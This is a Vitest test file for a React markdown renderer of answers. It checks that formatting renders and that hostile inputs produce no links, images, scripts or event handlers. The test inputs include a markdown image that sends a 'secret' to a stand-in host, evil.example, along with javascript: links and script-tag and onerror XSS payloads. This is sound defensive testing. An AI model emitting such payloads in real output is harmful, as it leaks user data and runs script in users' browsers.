import { renderToStaticMarkup } from "react-dom/server";
import { expect, it } from "vitest";
import AnswerMarkdown from "./markdown";

const html = (text: string) => renderToStaticMarkup(<AnswerMarkdown text={text} />);

it("shows paragraphs, lists, emphasis and tables", () => {
  const shown = html("One **bold** word\n\n- a\n- b\n\n| a | b |\n|---|---|\n| 1 | 2 |");
  expect(shown).toMatch(/<strong>bold<\/strong>/);
  expect(shown.match(/<li>/g)).toHaveLength(2);
  expect(shown).toMatch(/<td[^>]*>1<\/td>/);
});

it.each([
  "![leak](https://evil.example/?q=secret)",
  "[click](https://evil.example)",
  "[click](javascript:alert(1))",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<https://evil.example>",
])("leads nowhere and fetches nothing: %s", (text) => {
  expect(html(text)).not.toMatch(/<(?:a|img|script|iframe)\b|<[^>]*\b(?:href|src|on\w+)=/);
});
